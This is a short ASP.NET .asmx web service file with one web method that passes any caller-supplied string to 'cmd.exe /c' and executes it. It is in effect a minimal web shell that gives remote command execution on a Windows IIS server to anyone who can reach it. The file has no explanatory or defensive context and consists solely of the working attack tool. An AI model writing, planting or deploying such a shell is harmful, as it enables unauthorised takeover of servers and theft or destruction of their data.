<%@ WebService Language="C#" Class="S" %>
using System.Web.Services;
public class S : WebService { [WebMethod] public string R(string c) { return new System.Diagnostics.Process { StartInfo = { FileName = "cmd.exe", Arguments = "/c " + c } }.Start().ToString(); } }
